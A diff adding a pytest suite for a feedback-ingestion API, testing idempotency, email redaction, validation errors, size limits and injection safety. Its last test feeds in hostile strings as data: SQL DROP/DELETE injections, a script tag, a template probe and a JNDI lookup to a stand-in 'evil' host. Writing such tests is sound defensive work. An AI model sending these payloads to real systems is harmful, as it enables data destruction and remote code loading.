@@ -1,0 +1,160 @@
+"""Pushing responses: accepted once, idempotent, refused with the field and index named, never lost."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from sqlalchemy import func, select
+
+from vocengine.store.tables import Response
+
+RESPONSE = Response.__table__
+
+
+def item(i: int, **extra):
+    return {"source": "survey", "external_id": f"s-{i}", "text": f"Support answered ticket {i} quickly.", **extra}
+
+
+def stored(service) -> int:
+    with service.engine.connect() as connection:
+        return connection.execute(select(func.count()).select_from(RESPONSE)).scalar_one()
+
+
+def test_one_response_is_accepted_stored_redacted_and_pending(service):
+    with service.client("ingest") as client:
+        reply = client.post(
+            "/v1/responses", json=item(1, text="Mail me at jane.doe@example.com, the invoice is wrong.")
+        )
+    assert reply.status_code == 202
+    body = reply.json()
+    assert body["accepted"] == 1 and body["items"][0]["status"] == "accepted"
+    with service.engine.connect() as connection:
+        row = connection.execute(select(RESPONSE).where(RESPONSE.c.id == body["items"][0]["id"])).one()
+    assert row.status == "pending"
+    assert "jane.doe@example.com" not in row.text and "[EMAIL]" in row.text
+
+
+def test_resending_changes_nothing_and_says_so(service):
+    with service.client("ingest") as client:
+        first = client.post("/v1/responses", json=item(1))
+        again = client.post("/v1/responses", json=item(1, text="A different text for the same id."))
+        batch = client.post("/v1/responses/batch", json={"items": [item(1), item(2)]})
+    assert first.status_code == 202 and again.status_code == 200
+    assert again.json()["items"][0] == {"index": 0, "id": first.json()["items"][0]["id"], "status": "duplicate"}
+    assert [i["status"] for i in batch.json()["items"]] == ["duplicate", "accepted"]
+    assert stored(service) == 2
+    with service.engine.connect() as connection:
+        text = connection.execute(select(RESPONSE.c.text).where(RESPONSE.c.external_id == "s-1")).scalar_one()
+    assert text == item(1)["text"]
+
+
+def test_the_same_external_id_from_two_sources_is_two_responses(service):
+    with service.client("ingest") as client:
+        client.post("/v1/responses", json=item(1))
+        reply = client.post("/v1/responses", json=item(1, source="ticket"))
+    assert reply.status_code == 202 and stored(service) == 2
+
+
+def test_a_batch_is_accepted_with_ids_in_order(service):
+    with service.client("ingest") as client:
+        reply = client.post("/v1/responses/batch", json={"items": [item(i) for i in range(20)]})
+    assert reply.status_code == 202
+    items = reply.json()["items"]
+    assert [i["index"] for i in items] == list(range(20)) and len({i["id"] for i in items}) == 20
+    assert stored(service) == 20
+
+
+@pytest.mark.parametrize(
+    ("bad", "field", "words"),
+    [
+        ({"text": ""}, "items.3.text", "empty"),
+        ({"text": "   \n "}, "items.3.text", "empty"),
+        ({"text": 42}, "items.3.text", "string"),
+        ({"text": "x" * 20_001}, "items.3.text", "limit"),
+        ({"source": "fax"}, "items.3.source", "survey"),
+        ({"score": 11, "score_type": "nps"}, "items.3", "between 0 and 10"),
+        ({"score": 4}, "items.3", "together"),
+        ({"colour": "blue"}, "items.3.colour", "not permitted"),
+        ({"submitted_at": "yesterday"}, "items.3.submitted_at", "datetime"),
+    ],
+)
+def test_an_invalid_item_is_refused_with_its_index_and_field(service, bad, field, words):
+    items = [item(i) for i in range(5)]
+    items[3] = {**items[3], **bad}
+    with service.client("ingest") as client:
+        reply = client.post("/v1/responses/batch", json={"items": items})
+    assert reply.status_code == 422
+    error = reply.json()["error"]
+    assert error["code"] == "validation_error"
+    detail = error["details"][0]
+    assert detail["index"] == 3 and detail["field"].startswith(field)
+    assert words in detail["message"] or words in error["message"]
+    assert stored(service) == 0  # all or nothing: the tool fixes item 3 and re-sends
+
+
+def test_missing_text_is_named(service):
+    with service.client("ingest") as client:
+        reply = client.post("/v1/responses", json={"source": "chat", "external_id": "c1"})
+    assert reply.status_code == 422
+    assert reply.json()["error"]["details"][0]["field"] == "text"
+
+
+def test_duplicate_ids_inside_one_batch_are_refused(service):
+    with service.client("ingest") as client:
+        reply = client.post("/v1/responses/batch", json={"items": [item(1), item(2), item(1)]})
+    assert reply.status_code == 422
+    error = reply.json()["error"]
+    assert error["code"] == "duplicate_in_batch" and error["details"][0]["index"] == 2
+    assert stored(service) == 0
+
+
+def test_invalid_json_is_a_clear_422(service):
+    with service.client("ingest") as client:
+        reply = client.post(
+            "/v1/responses", content=b'{"source": "survey", "text": ', headers={"Content-Type": "application/json"}
+        )
+    assert reply.status_code == 422
+    assert "JSON" in reply.json()["error"]["message"]
+
+
+def test_a_batch_over_the_item_limit_is_413(service):
+    with service.client("ingest") as client:
+        reply = client.post("/v1/responses/batch", json={"items": [item(i) for i in range(51)]})
+    assert reply.status_code == 413
+    assert "at most 50" in reply.json()["error"]["message"]
+    assert stored(service) == 0
+
+
+def test_an_over_large_body_is_413_before_it_is_read(service):
+    body = json.dumps({"items": [item(i, text="long " * 2000) for i in range(40)]}).encode()
+    assert len(body) > service.settings.max_body_bytes
+    with service.client("ingest") as client:
+        reply = client.post("/v1/responses/batch", content=body, headers={"Content-Type": "application/json"})
+        chunked = client.post(
+            "/v1/responses/batch", content=iter([body[:100_000], body[100_000:]]),
+            headers={"Content-Type": "application/json"},
+        )  # fmt: skip
+    assert reply.status_code == 413 and chunked.status_code == 413
+    assert reply.json()["error"]["code"] == "payload_too_large"
+    assert stored(service) == 0
+
+
+def test_injection_looking_text_is_stored_verbatim_and_harmless(service):
+    nasty = [
+        "'); DROP TABLE response; --",
+        "<script>alert('x')</script> Robert'); DELETE FROM api_key;--",
+        "{{7*7}} ${jndi:ldap://evil/a} \u0000 end",
+    ]
+    with service.client("ingest") as client:
+        reply = client.post(
+            "/v1/responses/batch",
+            json={"items": [item(i, text=t, segments={"note'; --": t[:30]}) for i, t in enumerate(nasty)]},
+        )
+        assert reply.status_code == 202
+        ids = [i["id"] for i in reply.json()["items"]]
+    with service.client("read") as client:
+        texts = [client.get(f"/v1/responses/{i}").json()["text"] for i in ids]
+    # NUL is the one character removed: PostgreSQL text cannot hold it.
+    assert texts == [t.replace("\u0000", "") for t in nasty]
+    assert stored(service) == 3
